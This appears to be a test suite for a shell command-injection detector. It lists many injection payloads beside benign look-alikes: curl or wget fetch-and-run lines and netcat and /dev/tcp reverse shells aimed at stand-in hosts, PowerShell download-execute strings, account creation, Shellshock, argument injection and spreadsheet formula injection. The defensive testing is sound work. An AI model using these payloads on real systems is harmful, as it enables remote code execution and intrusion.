import { inField, inHeader, inQuery, inTarget, table } from '../verdict.js';

describe('Shells', () => {
  table(
    'shell',
    [
      ';id',
      '; whoami',
      'x;ls -la',
      '127.0.0.1; uname -a',
      '127.0.0.1|id',
      '127.0.0.1 && ifconfig',
      '127.0.0.1 || ping -c 3 h.example',
      'a`id`',
      'a$(whoami)',
      '$(curl h.example)',
      '\nwget http://h.example/x',
      '| nc 192.0.2.1 99',
      '& dir C:\\',
      '&& type C:\\boot.txt',
      '; sleep 7',
      "'; bash -i",
      '";python3 -c x;"',
      ';w"h"o"am"i',
      ';c\\at /tmp/x',
      ';/bin/bash',
      ';/usr/bin/id',
      ';cat${IFS}/tmp/x',
      ';cat$IFS$9/tmp/x',
      '{ls,-la}',
      '() { :;}; echo hi',
      'for /f %i in (x.txt) do echo %i',
      'if exist c:\\x.txt del c:\\x.txt',
      'if not defined x set x=1',
      'if 1==1 echo yes',
      'if %x% geq 5 echo',
      'powershell -enc AAAA',
      ';iex (iwr http://h.example/a.ps1)',
      'reg add hklm\\software\\x',
      'alias ll="x"',
      '/???/c?t /tmp/x',
      '/usr/bin/python3',
      'sudo sh -c id',
      'nohup bash -c id',
      'time sh -c id',
      'curl http://h.example/x | sh',
      ';net user x /add',
      '|sort -u',
      '`cat /tmp/x`',
      '$((5*6))',
      '<(cat x)',
      'bash <<<id',
      ';nslookup h.example',
      "a';getent hosts h.example;'",
    ],
    [
      'having friends over is nice',
      'At the store',
      'take a left (1 mile); then right',
      'it was good; more of it, please',
      'top; more; less',
      'find | sort | head',
      'Home | About | Contact | Help',
      'salt & pepper',
      'Johnson & Johnson',
      'fish & chips; mushy peas',
      'A & B; C & D',
      'time after time',
      'cat & dog',
      'black cat; white cat',
      'the ls command lists files',
      'ping me tomorrow',
      'sleep well; bye',
      'make it so',
      'sort by price',
      'echo in the hall',
      'kill the lights',
      'who; what; where; when',
      'a; b; c',
      'yes; no; maybe',
      'Use `npm install` and then `ls -la` to see what is there',
      '- `cat`: shows a file',
      'if a == b we are done',
      'if it exists, delete it',
      'for 5% in cash (or card) do call',
      '{a,b} is a set of two letters here',
      'f() { }',
      'cost: $(5)',
      'go/no go',
      '/api/users',
      'and/or',
      'https://example.com/a;b=c?d=e&f=g',
      'q=1&sort=asc&page=2',
      'Mr. & Mrs. Smith',
      '50% off & free shipping; today only!',
      'Cup & saucer',
      'R&D; Q&A',
      'C:\\Users\\Ann\\report.docx',
      'node --version is what I ran, and it said 20',
      'ex -corrupti',
      '&#39;quoted&#39; text',
      'Zeile eins; Zeile zwei',
      'x > y; y > z',
      'dist/**/*',
    ],
  );

  it('takes the scripts of a package manifest for what they are', () => {
    expect(inField({ build: 'rm -rf dist && tsc -p .', test: 'node --test; echo $(pwd)' }, 'scripts')).toBeUndefined();
  });

  it('does not read commands into browser names', () => {
    expect(inHeader('user-agent', 'Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36; wget')).toBeUndefined();
    expect(inHeader('user-agent', '() { :;}; /bin/bash -c id')).toBe('shell');
    expect(inHeader('accept', 'text/html,application/xml;q=0.9,*/*;q=0.8')).toBeUndefined();
  });

  it('reads the path', () => {
    expect(inTarget('/cmd=1%20%26%26%20ls%20/home')).toBe('shell');
  });
});

describe('Command lines by the kind of field', () => {
  table(
    'shell',
    [
      'groupmems',
      'lvextend',
      '"fdisk"',
      'ansible-pull -U x',
      'aa-enforce httpd',
      'pip3 download something',
      'apt-get source hello',
      'docker inspect web',
      'systemctl mask cron',
      'kubectl drain node-7',
      'net localgroup',
      'redis-cli monitor',
      'env --null',
      'find --version',
      'rm old new',
      "awk '{print $2}'",
      'gawk "BEGIN{exit}"',
      "perl -e 's/a/b/'",
      'chattr +i notes',
      'socat udp-listen:53 -',
      'p^i^n^g -n 2 127.0.0.1',
      'n^e^t^stat',
      'l{s,s}',
      'get-volume',
      'Test-Path C:\\x',
    ],
    ['get-together', 'set-top boxes', 'ping pong tables', 'net weight'],
    'code',
  );
  table(
    'shell',
    ['partprobe', 'gem fetch x'],
    [
      'ansible',
      'kubectl cheat sheet',
      'ping pong tables',
      'ping example.org',
      'npm start',
      'cargo build --release',
      'go build ./...',
      'php artisan serve',
      'node server.js',
      'npm run build',
      'get-together',
      'set-top boxes',
      'start-up costs',
      'add-on',
      'docker',
      'make it so',
      'sort by price',
      'date of birth',
      'net weight',
      'colo{u}r',
      '{a,b}',
    ],
    'setting',
  );

  it('lets what is spoken of pass where people write', () => {
    for (const text of ['visudo', 'ls -la meaning', 'pip install numpy', 'Get-Process', 'crontab -e', 'docker ps -a'])
      expect([text, inQuery(text), inField(text, 'title')]).toEqual([text, undefined, undefined]);
    expect(inField('mkswap', 'slug')).toBeUndefined();
  });

  it('takes steps that people write down for what they are, and finds what they do not lead to', () => {
    for (const text of ['npm run build && npm publish', 'git add . && git commit', 'mkdir x && cd x', 'chmod 755 file'])
      expect([text, inField(text, 'title')]).toEqual([text, undefined]);
    expect(inField('cd x && wget http://h.example/y', 'title')).toBe('shell');
    expect(inField('npm test && id', 'title')).toBe('shell');
    for (const text of [
      'grep -r "foo" .',
      'head & tail',
      '`tail` is a command',
      'ipconfig /all says the gateway is down',
      'Set PATH=$PATH:/usr/local/bin in your .bashrc',
    ])
      expect([text, inField(text, 'title')]).toEqual([text, undefined]);
  });

  it('takes the commands of a build service for what they are', () => {
    expect(inField('npm ci && npm run build', 'installation_command')).toBeUndefined();
    expect(inField({ '*.svg': 'npx -y svgo -r' }, 'lint-staged')).toBeUndefined();
  });
});

describe('More of what shells run', () => {
  table(
    'shell',
    [
      ';which lua',
      'see below\\n. x nc 192.0.2.9 4444 -e bash',
      'x netcat host.example 99 --sh-exec /bin/sh',
      ';locate passwords',
      ';wall bye',
      ';host h.example',
      ';node a.js',
      ';docker images',
      '|Get-Service',
      ';Start-Sleep 4',
      ';Start-Sleep -s 4',
      '|Restart-Computer -Force',
      ';$SHELL -c id',
      ';${0} -c id',
      ';p=l;q=s;$p$q',
      ';/tmp/implant',
      '&& ./dropped',
      '--checkpoint-action=exec=sh x.sh',
      '-oProxyCommand=touch',
      '--upload-pack=touch x',
      "& ('cal'+'c')",
      '.("i"+"ex") calc',
      '[Diagnostics.Process]::Start("calc")',
      'exec 3<>/dev/tcp/192.0.2.7/443; cat <&3 | while read line do $line then go on until it ends',
      ";$'\\x69\\x64'",
      '{wget,http://h.example/x}',
      'mshta vbscript:go',
      'time; chef-apply',
      'echo | gcc7.4',
      'nice /bin/sh -p',
    ],
    [
      'id;name;date',
      'nc 192.0.2.9 4444 -e is for the old netcat',
      'func name 20 -e shows',
      'host|port|user',
      'make;model;time',
      '`Date` (copied)',
      '$(date)',
      '$(OBJS)',
      '$HOME/bin',
      '${HOME}/bin',
      '0 3 * * 1 /usr/bin/certbot renew --quiet',
      'Use /usr/bin/env in scripts',
      'chmod +x fixes the permission error',
      'Please run npm install && npm test before you push.',
      'grep -v',
      '/usr/lib;/tmp',
      'true|false',
      'PATH=/usr/bin;/opt',
      'see [Foo]::bar',
      'time; tide',
    ],
  );

  it('tells the name of a program that calls itself by it from a command line', () => {
    for (const agent of [
      'chpasswd',
      'machinectl list',
      'kubectl get nodes',
      'docker ps',
      '"lsof -i"',
      "'uniq' --version",
      'env --null',
      'code=ansible-pull',
      'puppet apply x.pp',
    ])
      expect([agent, inHeader('user-agent', agent)]).toEqual([agent, 'shell']);
    for (const agent of [
      'curl/8.5.0',
      'Wget/1.21.4 (linux-gnu)',
      'git/2.43.0',
      'kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f',
      'ansible-httpget',
      'jq client',
      'node',
      'Ruby',
      'mail client',
      'puppet-agent',
      'Composer/2.6.6 (Linux; 6.5.0; PHP 8.2.0; cURL 8.5.0)',
      'python-requests/2.31.0',
      'aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0 command/s3.ls',
      'date picker',
    ])
      expect([agent, inHeader('user-agent', agent)]).toEqual([agent, undefined]);
  });
});

describe('Commands that are given to another program', () => {
  table(
    'shell',
    ['bash -c "id"', "sh -c 'whoami'", 'ext::sh -c id% >&2', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['bash -c', 'sh -x', 'ext4', 'text::shape', '=SUM(A1:A5)', '=A1|B2', "-cmd|'x'", "cmd|'x'"],
    'title',
  );
});
